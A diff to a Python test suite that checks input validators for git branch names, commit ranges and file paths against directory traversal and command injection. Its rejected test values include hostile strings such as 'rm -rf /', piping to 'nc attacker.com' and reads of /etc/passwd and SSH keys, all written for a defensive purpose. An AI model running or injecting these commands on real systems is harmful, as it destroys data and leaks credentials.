@@ -14,138 +14,211 @@ from lucidity.validation import (
     sanitize_git_command_args,
 )
 
+# Branch suffixes an attacker might append to a repository URL; all must be rejected
+MALICIOUS_BRANCHES: tuple[str, ...] = (
+    "../../etc/passwd",
+    "--help",
+    "; rm -rf /",
+    "branch; malicious",
+)
+
 
 class TestBranchNameValidation:
     """Tests for branch name validation to prevent directory traversal."""
 
-    def test_valid_branch_names(self):
+    @pytest.mark.parametrize(
+        "branch",
+        [
+            "main",
+            "develop",
+            "feature/my-feature",
+            "bugfix/issue-123",
+            "release/1.0.0",
+            "feature_test",
+            "my-branch-123",
+            # Underscores, numbers and dots
+            "feature_123",
+            "release-v1.0",
+        ],
+    )
+    def test_valid_branch_names(self, branch):
         """Test that valid branch names are accepted."""
-        assert is_valid_branch_name("main")
-        assert is_valid_branch_name("develop")
-        assert is_valid_branch_name("feature/my-feature")
-        assert is_valid_branch_name("bugfix/issue-123")
-        assert is_valid_branch_name("release/1.0.0")
-        assert is_valid_branch_name("feature_test")
-        assert is_valid_branch_name("my-branch-123")
-
-    def test_directory_traversal_attempts(self):
+        assert is_valid_branch_name(branch)
+
+    @pytest.mark.parametrize(
+        "branch",
+        [
+            "../../etc/passwd",
+            "../../../root",
+            "feature/../../../etc",
+            "test/../../passwd",
+        ],
+    )
+    def test_directory_traversal_attempts(self, branch):
         """Test that branch names with directory traversal are rejected."""
-        assert not is_valid_branch_name("../../etc/passwd")
-        assert not is_valid_branch_name("../../../root")
-        assert not is_valid_branch_name("feature/../../../etc")
-        assert not is_valid_branch_name("test/../../passwd")
+        assert not is_valid_branch_name(branch)
 
-    def test_branch_names_starting_with_dots(self):
+    @pytest.mark.parametrize("branch", [".hidden", "..secret", ".."])
+    def test_branch_names_starting_with_dots(self, branch):
         """Test that branch names starting with dots are rejected."""
-        assert not is_valid_branch_name(".hidden")
-        assert not is_valid_branch_name("..secret")
-        assert not is_valid_branch_name("..")
+        assert not is_valid_branch_name(branch)
 
-    def test_branch_names_starting_with_dashes(self):
+    @pytest.mark.parametrize("branch", ["--help", "-option", "--version"])
+    def test_branch_names_starting_with_dashes(self, branch):
         """Test that branch names starting with dashes (options) are rejected."""
-        assert not is_valid_branch_name("--help")
-        assert not is_valid_branch_name("-option")
-        assert not is_valid_branch_name("--version")
-
-    def test_empty_or_invalid_branch_names(self):
+        assert not is_valid_branch_name(branch)
+
+    @pytest.mark.parametrize(
+        "branch",
+        [
+            "",
+            None,
+            "branch with spaces",
+            "branch@special",
+            "branch$dollar",
+            "main\n",
+        ],
+    )
+    def test_empty_or_invalid_branch_names(self, branch):
         """Test that empty or invalid branch names are rejected."""
-        assert not is_valid_branch_name("")
-        assert not is_valid_branch_name(None)  # type: ignore
-        assert not is_valid_branch_name("branch with spaces")
-        assert not is_valid_branch_name("branch@special")
-        assert not is_valid_branch_name("branch$dollar")
+        assert not is_valid_branch_name(branch)
 
 
 class TestCommitRangeValidation:
     """Tests for commit range validation to prevent command injection."""
 
-    def test_valid_commit_ranges(self):
+    @pytest.mark.parametrize(
+        "commits",
+        [
+            "HEAD~1..HEAD",
+            "HEAD~5..HEAD",
+            "abc123..def456",
+            "main..feature-branch",
+            "v1.0.0..v2.0.0",
+            "HEAD^..HEAD",
+            "origin/main..HEAD",
+            # Special git syntax on both sides
+            "HEAD~3..HEAD~1",
+        ],
+    )
+    def test_valid_commit_ranges(self, commits):
         """Test that valid commit ranges are accepted."""
-        assert is_valid_commit_range("HEAD~1..HEAD")
-        assert is_valid_commit_range("HEAD~5..HEAD")
-        assert is_valid_commit_range("abc123..def456")
-        assert is_valid_commit_range("main..feature-branch")
-        assert is_valid_commit_range("v1.0.0..v2.0.0")
-        assert is_valid_commit_range("HEAD^..HEAD")
-        assert is_valid_commit_range("origin/main..HEAD")
-
-    def test_command_injection_attempts(self):
+        assert is_valid_commit_range(commits)
+
+    @pytest.mark.parametrize(
+        "commits",
+        [
+            "HEAD; rm -rf /",
+            "HEAD && cat /etc/passwd",
+            "HEAD | nc attacker.com 1234",
+            "HEAD & background-command",
+            "HEAD`malicious-command`",
+            "HEAD$malicious",
+            "HEAD\nmalicious",
+        ],
+    )
+    def test_command_injection_attempts(self, commits):
         """Test that commit ranges with shell metacharacters are rejected."""
-        assert not is_valid_commit_range("HEAD; rm -rf /")
-        assert not is_valid_commit_range("HEAD && cat /etc/passwd")
-        assert not is_valid_commit_range("HEAD | nc attacker.com 1234")
-        assert not is_valid_commit_range("HEAD & background-command")
-        assert not is_valid_commit_range("HEAD`malicious-command`")
-        assert not is_valid_commit_range("HEAD$malicious")
-        assert not is_valid_commit_range("HEAD\nmalicious")
-
-    def test_commit_ranges_starting_with_dashes(self):
-        """Test that commit ranges starting with dashes (options) are rejected."""
-        assert not is_valid_commit_range("--help")
-        assert not is_valid_commit_range("-a")
-        assert not is_valid_commit_range("--version")
+        assert not is_valid_commit_range(commits)
 
-    def test_empty_or_invalid_commit_ranges(self):
+    @pytest.mark.parametrize("commits", ["--help", "-a", "--version"])
+    def test_commit_ranges_starting_with_dashes(self, commits):
+        """Test that commit ranges starting with dashes (options) are rejected."""
+        assert not is_valid_commit_range(commits)
+
+    @pytest.mark.parametrize(
+        "commits",
+        [
+            "",
+            None,
+            # Valid format but with special characters should still fail
+            "HEAD..HEAD; malicious",
+        ],
+    )
+    def test_empty_or_invalid_commit_ranges(self, commits):
         """Test that empty or invalid commit ranges are rejected."""
-        assert not is_valid_commit_range("")
-        assert not is_valid_commit_range(None)  # type: ignore
-        # Valid format but with special characters should still fail
-        assert not is_valid_commit_range("HEAD..HEAD; malicious")
+        assert not is_valid_commit_range(commits)
 
 
 class TestPathValidation:
     """Tests for path validation to prevent directory traversal and injection."""
 
-    def test_valid_paths(self):
+    @pytest.mark.parametrize(
+        "path",
+        [
+            "src/main.py",
+            "lib/utils.js",
+            "docs/README.md",
+            "path/to/file.txt",
+            "file.txt",
+            "src/nested/deeply/file.py",
+            # Dots (but not ..)
+            "src/file.test.py",
+            "docs/README.v2.md",
+        ],
+    )
+    def test_valid_paths(self, path):
         """Test that valid file paths are accepted."""
-        assert is_valid_path("src/main.py")
-        assert is_valid_path("lib/utils.js")
-        assert is_valid_path("docs/README.md")
-        assert is_valid_path("path/to/file.txt")
-        assert is_valid_path("file.txt")
-        assert is_valid_path("src/nested/deeply/file.py")
-
-    def test_directory_traversal_attempts(self):
+        assert is_valid_path(path)
+
+    @pytest.mark.parametrize(
+        "path",
+        [
+            "../../etc/passwd",
+            "../../../root/.ssh/id_rsa",
+            "src/../../../etc/shadow",
+            "legitimate/../../../etc/passwd",
+            # Windows-style paths
+            "..\\..\\windows\\system32",
+        ],
+    )
+    def test_directory_traversal_attempts(self, path):
         """Test that paths with directory traversal are rejected."""
-        assert not is_valid_path("../../etc/passwd")
-        assert not is_valid_path("../../../root/.ssh/id_rsa")
-        assert not is_valid_path("src/../../../etc/shadow")
-        assert not is_valid_path("legitimate/../../../etc/passwd")
-        # Windows-style paths
-        assert not is_valid_path("..\\..\\windows\\system32")
-
-    def test_paths_starting_with_dashes(self):
-        """Test that paths starting with dashes (options) are rejected."""
-        assert not is_valid_path("--help")
-        assert not is_valid_path("-a")
-        assert not is_valid_path("--version")
+        assert not is_valid_path(path)
 
-    def test_paths_with_shell_metacharacters(self):
+    @pytest.mark.parametrize("path", ["--help", "-a", "--version"])
+    def test_paths_starting_with_dashes(self, path):
+        """Test that paths starting with dashes (options) are rejected."""
+        assert not is_valid_path(path)
+
+    @pytest.mark.parametrize(
+        "path",
+        [
+            "file.txt; rm -rf /",
+            "file.txt && malicious",
+            "file.txt | nc attacker.com",
+            "file.txt`malicious`",
+            "file.txt$var",
+        ],
+    )
+    def test_paths_with_shell_metacharacters(self, path):
         """Test that paths with shell metacharacters are rejected."""
-        assert not is_valid_path("file.txt; rm -rf /")
-        assert not is_valid_path("file.txt && malicious")
-        assert not is_valid_path("file.txt | nc attacker.com")
-        assert not is_valid_path("file.txt`malicious`")
-        assert not is_valid_path("file.txt$var")
+        assert not is_valid_path(path)
 
-    def test_empty_or_invalid_paths(self):
+    @pytest.mark.parametrize("path", ["", None])
+    def test_empty_or_invalid_paths(self, path):
         """Test that empty or invalid paths are rejected."""
-        assert not is_valid_path("")
-        assert not is_valid_path(None)  # type: ignore
-
-    def test_absolute_paths_rejected(self):
+        assert not is_valid_path(path)
+
+    @pytest.mark.parametrize(
+        "path",
+        [
+            # Unix absolute paths
+            "/etc/passwd",
+            "/usr/bin/python",
+            "/root/.ssh/id_rsa",
+            # Home directory paths
+            "~/secrets.txt",
+            "~user/file.txt",
+            # Windows drive paths
+            "C:\\Windows\\system32",
+            "D:\\data\\file.txt",
+            "C:/Windows/system32",
+        ],
+    )
+    def test_absolute_paths_rejected(self, path):
         """Test that absolute paths are rejected."""
-        # Unix absolute paths
-        assert not is_valid_path("/etc/passwd")
-        assert not is_valid_path("/usr/bin/python")
-        assert not is_valid_path("/root/.ssh/id_rsa")
-        # Home directory paths
-        assert not is_valid_path("~/secrets.txt")
-        assert not is_valid_path("~user/file.txt")
-        # Windows drive paths
-        assert not is_valid_path("C:\\Windows\\system32")
-        assert not is_valid_path("D:\\data\\file.txt")
-        assert not is_valid_path("C:/Windows/system32")
+        assert not is_valid_path(path)
 
 
 class TestGitCommandSanitization:
@@ -185,16 +258,8 @@ class TestInputValidationIntegration:
 
     def test_malicious_branch_in_url_format(self):
         """Test that malicious branch names in URL format are rejected."""
-        # These should be rejected when parsed as branch names
-        malicious_branches = [
-            "../../etc/passwd",
-            "--help",
-            "; rm -rf /",
-            "branch; malicious",
-        ]
-
-        for branch in malicious_branches:
-            assert not is_valid_branch_name(branch), f"Branch '{branch}' should be rejected"
+        accepted = [branch for branch in MALICIOUS_BRANCHES if is_valid_branch_name(branch)]
+        assert not accepted, f"Branches should be rejected: {accepted}"
 
     def test_safe_workflow_inputs(self):
         """Test that legitimate workflow inputs are accepted."""
@@ -205,17 +270,3 @@ class TestInputValidationIntegration:
         assert is_valid_commit_range("main..develop")
         assert is_valid_path("src/tools/git_utils.py")
         assert is_valid_path("tests/test_security.py")
-
-    def test_edge_cases(self):
-        """Test edge cases in validation."""
-        # Branch names with underscores and numbers
-        assert is_valid_branch_name("feature_123")
-        assert is_valid_branch_name("release-v1.0")
-
-        # Commit ranges with special git syntax
-        assert is_valid_commit_range("HEAD^..HEAD")
-        assert is_valid_commit_range("HEAD~3..HEAD~1")
-
-        # Paths with dots (but not ..)
-        assert is_valid_path("src/file.test.py")
-        assert is_valid_path("docs/README.v2.md")